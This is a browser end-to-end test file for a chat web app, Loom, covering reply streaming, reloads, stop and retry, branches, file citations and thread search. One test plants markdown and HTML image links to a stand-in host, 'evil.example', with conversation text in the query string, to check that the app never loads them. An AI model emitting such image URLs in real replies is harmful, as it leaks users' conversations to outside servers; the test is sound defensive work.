/**
 * End-to-end tests of the chat's second pass against a running Loom and the scripted fake
 * model: runs that outlive the page (reload mid-reply, a second tab), replies that are never
 * lost (stopped, failed), message actions and branches, files and citations, the thread list,
 * the assistant form. Screenshots of the main screens in both themes and at phone width go
 * to e2e/artifacts/ (names starting with "2").
 */
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fake } from './fake.mjs';
import { ARTIFACTS, BASE_URL, authMode, launch, newPage, sendMessage, shot, uniqueName, waitForRunEnd } from './helpers.mjs';

const skip = !BASE_URL
  ? 'LOOM_E2E_BASE_URL is not set (start Loom and point it there)'
  : process.env.LOOM_E2E_MOCK === '1'
    ? 'the mock API has no branches, files, search or run joining: these run against Loom only'
    : false;
const needsFake = !fake.available;
const STEP = { timeout: 90_000 };

async function apiAs(user, method, path, body) {
  const res = await fetch(`${BASE_URL}${path}`, {
    method,
    headers: { cookie: `opengpts_user_id=${user}`, 'content-type': 'application/json' },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await res.text();
  return { status: res.status, body: text ? JSON.parse(text) : null };
}

const words = (prefix, n) => Array.from({ length: n }, (_, i) => `${prefix}${i}`).join(' ');
const ai = (page) => page.locator('[data-testid="message"][data-type="ai"]');
const lastAiText = async (page) => ((await ai(page).last().locator('[data-testid="message-content"]').textContent()) ?? '').trim();
const streamingText = (page) => page.locator('[data-testid="message"][data-streaming="true"] [data-testid="message-content"]');

describe('Loom chat, second pass', { skip }, () => {
  let browser;
  let mode;
  const user = uniqueName('carol');
  let a;
  const ids = { agent: null, chatbot: null };

  /** A new chat with an assistant, opened in `page`; returns nothing (the URL has the id). */
  async function newChat(page, assistantId) {
    await page.goto(`/a/${assistantId}`);
    await page.getByTestId('composer-input').waitFor();
  }

  const threadIdOf = (page) => decodeURIComponent(new URL(page.url()).pathname.split('/')[2]);

  before(async () => {
    mode = await authMode();
    browser = await launch();
    a = await newPage(browser);
    await a.context.addCookies([{ name: 'opengpts_user_id', value: user, url: BASE_URL }]);
    await a.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: BASE_URL });
    await fake.reset();
    const agent = await apiAs(user, 'POST', '/assistants', {
      name: 'Reader',
      config: { configurable: { type: 'agent', tools: [{ type: 'retrieval' }], system_message: 'Be brief.' } },
      public: false,
    });
    ids.agent = agent.body?.assistant_id;
    const chatbot = await apiAs(user, 'POST', '/assistants', {
      name: 'Plain bot',
      config: { configurable: { type: 'chatbot' } },
      public: false,
    });
    ids.chatbot = chatbot.body?.assistant_id;
  });

  after(async () => {
    await browser?.close();
    console.log(`# screenshots in ${ARTIFACTS}`);
  });

  it('reloading in the middle of a reply follows it to the end, with the exact text', STEP, async (t) => {
    if (mode !== 'cookie' || needsFake) return t.skip('needs cookie mode and the scripted fake model');
    const { page } = a;
    const text = `Reload check: ${words('tok', 70)}. Finished.`;
    await fake.reply(text, 60);
    await newChat(page, ids.chatbot);
    await sendMessage(page, 'Tell me something long');
    await page.waitForURL(/\/t\/[^/]+$/);
    await streamingText(page).filter({ hasText: /tok3/ }).waitFor({ timeout: 30_000 });
    await page.reload();
    // The run goes on: the page joins it, shows the growing reply and a working Stop.
    await streamingText(page).filter({ hasText: /tok\d/ }).waitFor({ timeout: 30_000 });
    await page.getByTestId('stop-button').waitFor();
    await shot(page, '20-reattached-light');
    await waitForRunEnd(page);
    assert.equal(await lastAiText(page), text);
    assert.equal(await page.locator('[data-testid="message"][data-type="human"]').count(), 1);
    assert.equal(await page.title(), 'Tell me something long · Loom', 'the tab title follows the thread');
  });

  it('a dropped connection reconnects by itself, with a quiet note, and loses nothing', STEP, async (t) => {
    if (mode !== 'cookie' || needsFake) return t.skip('needs cookie mode and the scripted fake model');
    const { page } = a;
    const text = `Dropped check: ${words('net', 40)}. Back.`;
    await fake.reply(text, 20);
    // The stream of the next run breaks off after a few events (no `end`): a dropped connection.
    await page.route(
      '**/runs/stream?format=compact',
      async (route) => {
        const response = await route.fetch();
        const events = (await response.text()).split('\n\n');
        await route.fulfill({ status: 200, headers: response.headers(), body: `${events.slice(0, 5).join('\n\n')}\n\n` });
      },
      { times: 1 },
    );
    await sendMessage(page, 'Keep going while the line drops');
    await page.getByTestId('reconnecting').waitFor({ timeout: 30_000 });
    await shot(page, '20b-reconnecting-light');
    await page.getByTestId('reconnecting').waitFor({ state: 'detached', timeout: 20_000 });
    await waitForRunEnd(page);
    assert.equal(await lastAiText(page), text);
    await page.unrouteAll();
  });

  it('a second tab follows the same run, and Stop in one stops it in both', STEP, async (t) => {
    if (mode !== 'cookie' || needsFake) return t.skip('needs cookie mode and the scripted fake model');
    const { page } = a;
    const text = `Two tabs: ${words('duo', 60)}. Done.`;
    await fake.reply(text, 50);
    await sendMessage(page, 'Write for both tabs');
    await streamingText(page).filter({ hasText: /duo2/ }).waitFor({ timeout: 30_000 });
    const second = await a.context.newPage();
    try {
      await second.goto(page.url());
      await streamingText(second).filter({ hasText: /duo\d/ }).waitFor({ timeout: 30_000 });
      await second.getByTestId('stop-button').waitFor();
      await waitForRunEnd(page);
      await waitForRunEnd(second);
      assert.equal(await lastAiText(page), text);
      assert.equal(await lastAiText(second), text);

      // A run started in the first tab shows in the second, which stops it with Esc.
      await fake.reply(`${words('long', 300)} NEVER-SHOWN`, 80);
      await sendMessage(page, 'Another long one');
      await streamingText(second).filter({ hasText: /long3/ }).waitFor({ timeout: 30_000 });
      await second.keyboard.press('Escape');
      await waitForRunEnd(second, 20_000);
      await waitForRunEnd(page, 20_000);
      const stopped = ai(page).last();
      await page.locator('[data-testid="message"][data-status="stopped"]').waitFor({ timeout: 15_000 });
      assert.doesNotMatch((await stopped.textContent()) ?? '', /NEVER-SHOWN/);
    } finally {
      await second.close();
    }
  });

  it('a stopped reply survives a reload, marked stopped, and Retry makes a new version', STEP, async (t) => {
    if (mode !== 'cookie' || needsFake) return t.skip('needs cookie mode and the scripted fake model');
    const { page } = a;
    await fake.reply(`${words('cut', 300)} NEVER-SHOWN`, 80);
    await sendMessage(page, 'Tell me a very long story');
    await streamingText(page).filter({ hasText: /cut5/ }).waitFor({ timeout: 30_000 });
    await page.getByTestId('stop-button').click();
    await waitForRunEnd(page, 20_000);
    const before = await lastAiText(page);
    await page.reload();
    const kept = page.locator('[data-testid="message"][data-type="ai"][data-status="stopped"]').last();
    await kept.waitFor();
    const after = ((await kept.locator('[data-testid="message-content"]').textContent()) ?? '').trim();
    assert.match(after, /^cut0 cut1 cut2 cut3 cut4 cut5/);
    assert.doesNotMatch(after, /NEVER-SHOWN/);
    assert.ok(before.startsWith(after) || after.startsWith(before), 'the text kept is what was on screen');
    await kept.getByTestId('cut-notice').waitFor();
    await shot(page, '21-stopped-reply-light');
    await fake.reply('A complete story this time.', 10);
    await kept.getByTestId('cut-retry').click();
    await page.locator('[data-testid="message"][data-type="ai"]').filter({ hasText: 'A complete story this time.' }).waitFor({ timeout: 30_000 });
    await waitForRunEnd(page);
    const last = ai(page).last();
    await last.getByTestId('branch-position').filter({ hasText: '2/2' }).waitFor();
  });

  it('a model failure mid-reply keeps the partial text, marked failed, with Retry', STEP, async (t) => {
    if (mode !== 'cookie' || needsFake) return t.skip('needs cookie mode and the scripted fake model');
    const { page } = a;
    await fake.fault('cut', 4, `Partial words before the failure ${words('gone', 20)}`, 20);
    await sendMessage(page, 'This one breaks');
    await page.getByTestId('stream-error').waitFor({ timeout: 30_000 });
    const failed = page.locator('[data-testid="message"][data-type="ai"][data-status="failed"]').last();
    await failed.waitFor();
    assert.match(((await failed.textContent()) ?? '').trim(), /^Partial words before/);
    await fake.reply('Recovered answer.', 10);
    await page.getByTestId('retry-button').click();
    await page.locator('[data-testid="message"][data-type="ai"]').filter({ hasText: 'Recovered answer.' }).waitFor({ timeout: 30_000 });
    await waitForRunEnd(page);
    assert.equal(await page.getByTestId('stream-error').count(), 0);
    assert.equal(await page.locator('[data-testid="message"][data-type="human"]').filter({ hasText: 'This one breaks' }).count(), 1);
  });

  it('Continue after a stopped reply asks for the rest, and the stopped part stays marked', STEP, async (t) => {
    if (mode !== 'cookie' || needsFake) return t.skip('needs cookie mode and the scripted fake model');
    const { page } = a;
    await newChat(page, ids.chatbot);
    await fake.reply(`${words('part', 300)} NEVER-SHOWN`, 80);
    await sendMessage(page, 'Start a long answer');
    await streamingText(page).filter({ hasText: /part3/ }).waitFor({ timeout: 30_000 });
    await page.getByTestId('stop-button').click();
    await waitForRunEnd(page, 20_000);
    const stopped = page.locator('[data-testid="message"][data-type="ai"][data-status="stopped"]').last();
    await stopped.getByTestId('cut-continue').waitFor();
    await fake.reply('The rest of the answer.', 5);
    await stopped.getByTestId('cut-continue').click();
    await ai(page).filter({ hasText: 'The rest of the answer.' }).waitFor({ timeout: 30_000 });
    await waitForRunEnd(page);
    const humans = page.locator('[data-testid="message"][data-type="human"]');
    assert.equal(await humans.filter({ hasText: 'Continue from where you stopped.' }).count(), 1);
    // The partial reply is still there, still marked, above the continuation.
    const kept = page.locator('[data-testid="message"][data-type="ai"][data-status="stopped"]');
    assert.equal(await kept.count(), 1);
    assert.match(((await kept.locator('[data-testid="message-content"]').textContent()) ?? '').trim(), /^part0 part1 part2 part3/);
    assert.equal(await lastAiText(page), 'The rest of the answer.');
  });

  it('copies a message, shows times, regenerates and edits as branches that survive a reload', STEP, async (t) => {
    if (mode !== 'cookie' || needsFake) return t.skip('needs cookie mode and the scripted fake model');
    const { page } = a;
    await newChat(page, ids.chatbot);
    await fake.reply('First answer.', 5);
    await sendMessage(page, 'Question one');
    await page.waitForURL(/\/t\/[^/]+$/);
    await waitForRunEnd(page);
    await ai(page).last().getByTestId('regenerate').waitFor();
    // Copy.
    await ai(page).last().getByTestId('copy-message').click();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'First answer.');
    // Times.
    assert.ok((await page.getByTestId('message-time').count()) >= 2, 'messages show their time');
    // Regenerate: a second version of the answer.
    await fake.reply('Second answer.', 5);
    await ai(page).last().getByTestId('regenerate').click();
    await ai(page).filter({ hasText: 'Second answer.' }).waitFor({ timeout: 30_000 });
    await waitForRunEnd(page);
    await ai(page).last().getByTestId('branch-position').filter({ hasText: '2/2' }).waitFor();
    await ai(page).last().getByTestId('branch-prev').click();
    await ai(page).filter({ hasText: 'First answer.' }).waitFor();
    await ai(page).last().getByTestId('branch-position').filter({ hasText: '1/2' }).waitFor();
    await page.reload();
    await ai(page).filter({ hasText: 'First answer.' }).waitFor();
    await ai(page).last().getByTestId('branch-position').filter({ hasText: '1/2' }).waitFor();
    assert.equal(await ai(page).filter({ hasText: 'Second answer.' }).count(), 0);
    // Edit the question: a second version of the question with its own answer.
    await fake.reply('Answer to the edited question.', 5);
    const human = page.locator('[data-testid="message"][data-type="human"]').last();
    await human.getByTestId('edit-message').click();
    await page.getByTestId('edit-input').fill('Question one, edited');
    await shot(page, '22-edit-message-light');
    await page.getByTestId('edit-save').click();
    await ai(page).filter({ hasText: 'Answer to the edited question.' }).waitFor({ timeout: 30_000 });
    await waitForRunEnd(page);
    const edited = page.locator('[data-testid="message"][data-type="human"]').last();
    await edited.filter({ hasText: 'Question one, edited' }).waitFor();
    await edited.getByTestId('branch-position').filter({ hasText: '2/2' }).waitFor();
    await page.reload();
    await page.locator('[data-testid="message"][data-type="human"]').filter({ hasText: 'Question one, edited' }).waitFor();
    await page.locator('[data-testid="message"][data-type="human"]').last().getByTestId('branch-position').filter({ hasText: '2/2' }).waitFor();
    await page.locator('[data-testid="message"][data-type="human"]').last().getByTestId('branch-prev').click();
    await page.locator('[data-testid="message"][data-type="human"]').filter({ hasText: /^Question one$/ }).waitFor();
    await ai(page).filter({ hasText: 'First answer.' }).waitFor();
    await shot(page, '23-branches-light');
  });

  it('colours code blocks, and offers a jump to the latest message once scrolled up', STEP, async (t) => {
    if (mode !== 'cookie' || needsFake) return t.skip('needs cookie mode and the scripted fake model');
    const { page } = a;
    const code = '```python\ndef greet(name):\n    return "hello " + name  # say hi\n```';
    const filler = Array.from({ length: 40 }, (_, i) => `Line ${i} of a long answer.`).join('\n\n');
    await fake.reply(`Here is code:\n\n${code}\n\n${filler}`, 0);
    await newChat(page, ids.chatbot);
    await sendMessage(page, 'Show me some code');
    await page.waitForURL(/\/t\/[^/]+$/);
    await waitForRunEnd(page);
    await page.locator('.code-block code.hljs .hljs-keyword').first().waitFor({ timeout: 15_000 });
    const list = page.getByTestId('message-list');
    await list.evaluate((el) => el.scrollTo({ top: 0 }));
    await page.getByTestId('jump-to-bottom').click();
    await page.getByTestId('jump-to-bottom').waitFor({ state: 'detached' });
    await page.waitForFunction(() => {
      const el = document.querySelector('[data-testid="message-list"]');
      return el && el.scrollHeight - el.scrollTop - el.clientHeight < 80;
    });
  });

  it('shows a remote image in a reply as a link, never loading it; local and data: images stay', STEP, async (t) => {
    if (mode !== 'cookie' || needsFake) return t.skip('needs cookie mode and the scripted fake model');
    const { page } = a;
    const leak = 'https://evil.example/leak.png?q=the-secret-conversation';
    const raw = 'https://evil.example/raw.png?q=raw-html';
    const dot = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
    const requested = [];
    const watch = (request) => {
      if (request.url().includes('evil.example')) requested.push(request.url());
    };
    page.on('request', watch);
    try {
      await fake.reply(
        `A chart: ![the chart](${leak}) and inline HTML <img src="${raw}" alt="raw pixel">.\n\n` +
          `A dot: ![dot](${dot}) and the logo: ![logo](/favicon.svg)`,
        0,
      );
      await newChat(page, ids.chatbot);
      await sendMessage(page, 'Draw me a chart');
      await page.waitForURL(/\/t\/[^/]+$/);
      await waitForRunEnd(page);
      const content = ai(page).last().getByTestId('message-content');
      await content.locator(`a[href="${leak}"]`).filter({ hasText: 'the chart' }).waitFor();
      await content.locator(`a[href="${raw}"]`).filter({ hasText: 'raw pixel' }).waitFor();
      const sources = await content.locator('img').evaluateAll((imgs) => imgs.map((i) => i.getAttribute('src')));
      assert.deepEqual(sources.sort(), ['/favicon.svg', dot].sort(), 'only local and data: images are <img>');
      await page.reload();
      await content.locator(`a[href="${leak}"]`).waitFor();
      assert.deepEqual(requested, [], 'the browser never asked the remote server for an image');
    } finally {
      page.off('request', watch);
    }
  });

  it('shows the files of a chat, cites the passages a reply used, and deletes a file', STEP, async (t) => {
    if (mode !== 'cookie' || needsFake) return t.skip('needs cookie mode and the scripted fake model');
    const { page } = a;
    await newChat(page, ids.agent);
    const name = `${uniqueName('harbour')}.txt`;
    const file = join(tmpdir(), name);
    writeFileSync(file, 'Harbour log.\nThe lighthouse keeper feeds the gulls at dawn with sardines.\n');
    await page.getByTestId('upload-input').setInputFiles(file);
    await page.waitForURL(/\/t\/[^/]+$/);
    const chip = page.locator(`[data-testid="file-chip"][data-filename="${name}"]`);
    await chip.waitFor({ timeout: 60_000 });
    assert.equal(await page.getByTestId('files-warning').count(), 0, 'this assistant reads files');
    await fake.toolCallThenReply('retrieval', { query: 'who feeds the gulls' }, 'The lighthouse keeper does, at dawn [1].');
    await sendMessage(page, 'Who feeds the gulls?');
    await ai(page).filter({ hasText: 'The lighthouse keeper does' }).waitFor({ timeout: 60_000 });
    await waitForRunEnd(page);
    const citation = ai(page).last().getByTestId('citation').first();
    await citation.waitFor();
    assert.equal(await citation.getAttribute('data-filename'), name);
    assert.match((await citation.textContent()) ?? '', /\[1\]/);
    await citation.locator('summary').click();
    assert.match((await citation.getByTestId('citation-text').textContent()) ?? '', /feeds the gulls at dawn/);
    await shot(page, '24-citations-light');
    // Reload: the chip is still there; delete it.
    await page.reload();
    await chip.waitFor();
    await chip.getByTestId('delete-file').click();
    await chip.waitFor({ state: 'detached' });
    assert.deepEqual((await apiAs(user, 'GET', `/threads/${threadIdOf(page)}/files`)).body, []);

    // An assistant without the retrieval tool: a warning says it cannot read the file.
    await newChat(page, ids.chatbot);
    await page.getByTestId('upload-input').setInputFiles(file);
    await page.waitForURL(/\/t\/[^/]+$/);
    await page.locator(`[data-testid="file-chip"][data-filename="${name}"]`).waitFor({ timeout: 60_000 });
    await page.getByTestId('files-warning').waitFor();
    await shot(page, '25-files-warning-light');
  });

  it('lists the assistant’s files on its page, with delete', STEP, async (t) => {
    if (mode !== 'cookie') return t.skip('needs cookie mode');
    const { page } = a;
    const file = join(tmpdir(), 'assistant-guide.txt');
    writeFileSync(file, 'A guide for the chatbot.\n');
    await page.goto(`/a/${ids.chatbot}/edit`);
    await page.getByTestId('assistant-form').waitFor();
    await page.getByTestId('assistant-upload-input').setInputFiles(file);
    const chip = page.locator('[data-testid="file-chip"][data-filename="assistant-guide.txt"]');
    await chip.waitFor({ timeout: 60_000 });
    await page.getByTestId('files-warning').waitFor(); // a chatbot cannot read it
    await shot(page, '26-assistant-files-light');
    await chip.getByTestId('delete-file').click();
    await chip.waitFor({ state: 'detached' });
  });

  it('moves focus to the first invalid field, and shows unavailable models as such', STEP, async () => {
    const { page } = a;
    await page.goto('/new');
    await page.getByTestId('assistant-form').waitFor();
    await page.getByTestId('assistant-name').fill('');
    await page.getByTestId('save-assistant').click();
    await page.getByTestId('form-error').waitFor();
    // Focus moves once the error is on screen (the next frame): wait for it, then check.
    await page
      .waitForFunction(() => document.activeElement?.getAttribute('data-testid') === 'assistant-name', null, { timeout: 5_000 })
      .catch(() => {});
    assert.equal(await page.evaluate(() => document.activeElement?.getAttribute('data-testid')), 'assistant-name');
    const schema = (await apiAs(user, 'GET', '/runs/config_schema')).body;
    const unavailable = Object.keys(schema.properties.configurable.properties.model['x-enum-unavailable'] ?? {});
    for (const id of unavailable) {
      const option = page.locator(`[data-testid="field-model"] option[value="${id}"]`);
      assert.equal(await option.isDisabled(), true, `${id} is disabled`);
      assert.match((await option.textContent()) ?? '', /unavailable/);
    }
  });

  it('finds a thread by a word of its messages, groups chats by date, names their assistant, and follows a rename', STEP, async (t) => {
    if (mode !== 'cookie' || needsFake) return t.skip('needs cookie mode and the scripted fake model');
    const { page } = a;
    await newChat(page, ids.chatbot);
    await fake.reply('Zeppelins float on hydrogen or helium.', 5);
    await sendMessage(page, 'Tell me about airships');
    await page.waitForURL(/\/t\/[^/]+$/);
    await waitForRunEnd(page);
    const id = threadIdOf(page);
    const item = page.locator(`[data-testid="thread-list"] [data-testid="thread-item"][data-thread-id="${id}"]`);
    await item.waitFor();
    assert.match((await item.getByTestId('thread-meta').textContent()) ?? '', /Plain bot/);
    assert.equal(((await page.getByTestId('thread-group').first().textContent()) ?? '').trim(), 'Today');
    // A word of the reply (not in the title) finds it.
    await page.getByTestId('thread-search').fill('zeppelin');
    const hit = page.locator(`[data-testid="search-results"] [data-thread-id="${id}"]`);
    await hit.waitFor();
    assert.equal(await page.locator('[data-testid="search-results"] [data-testid="thread-item"]').count(), 1);
    await shot(page, '27-search-light');
    await page.getByTestId('thread-search').fill('nothing-matches-this');
    await page.getByTestId('no-search-results').waitFor();
    await page.getByTestId('thread-search').fill('');
    // Rename from the sidebar: the header and the tab title follow.
    await item.getByTestId('rename-thread').click();
    await item.getByTestId('rename-input').fill('Airships');
    await item.getByTestId('rename-input').press('Enter');
    await page.getByTestId('chat-title').filter({ hasText: 'Airships' }).waitFor();
    await page.waitForFunction(() => document.title === 'Airships · Loom');
  });

  it('takes screenshots of the main screens in the dark theme and at phone width', STEP, async (t) => {
    if (mode !== 'cookie') return t.skip('needs cookie mode');
    const threads = (await apiAs(user, 'GET', '/threads')).body;
    const withCitations = threads.find((x) => x.assistant_id === ids.agent);
    const branched = threads.find((x) => x.name.startsWith('Question one'));
    for (const [suffix, viewport] of [
      ['dark', { width: 1280, height: 860 }],
      ['phone-dark', { width: 390, height: 800 }],
      ['phone-light', { width: 390, height: 800 }],
    ]) {
      const dark = suffix.includes('dark');
      const m = await newPage(browser, { viewport, colorScheme: dark ? 'dark' : 'light' });
      try {
        await m.context.addCookies([{ name: 'opengpts_user_id', value: user, url: BASE_URL }]);
        if (withCitations) {
          await m.page.goto(`/t/${withCitations.thread_id}`);
          await m.page.getByTestId('citation').first().waitFor();
          await shot(m.page, `28-citations-${suffix}`);
        }
        if (branched) {
          await m.page.goto(`/t/${branched.thread_id}`);
          await m.page.getByTestId('branch-switcher').first().waitFor();
          await m.page.getByTestId('branch-switcher').first().scrollIntoViewIfNeeded();
          await shot(m.page, `29-branches-${suffix}`);
        }
        await m.page.goto(`/a/${ids.agent}/edit`);
        await m.page.getByTestId('assistant-form').waitFor();
        await shot(m.page, `30-assistant-form-${suffix}`);
        if (viewport.width < 500) {
          const overflow = await m.page.evaluate(() => document.documentElement.scrollWidth > window.innerWidth);
          assert.equal(overflow, false, 'no horizontal scrolling on a phone');
          await m.page.getByTestId('menu-toggle').click();
          await m.page.getByTestId('thread-search').waitFor({ state: 'visible' });
          await m.page.waitForTimeout(300);
          await shot(m.page, `31-thread-list-${suffix}`);
        }
      } finally {
        await m.context.close();
      }
    }
  });

  it('logged no errors in the page', () => {
    const relevant = a.errors.filter((e) => !/Failed to load resource: the server responded with a status of 40[14]/.test(e));
    assert.deepEqual(relevant, []);
  });
});
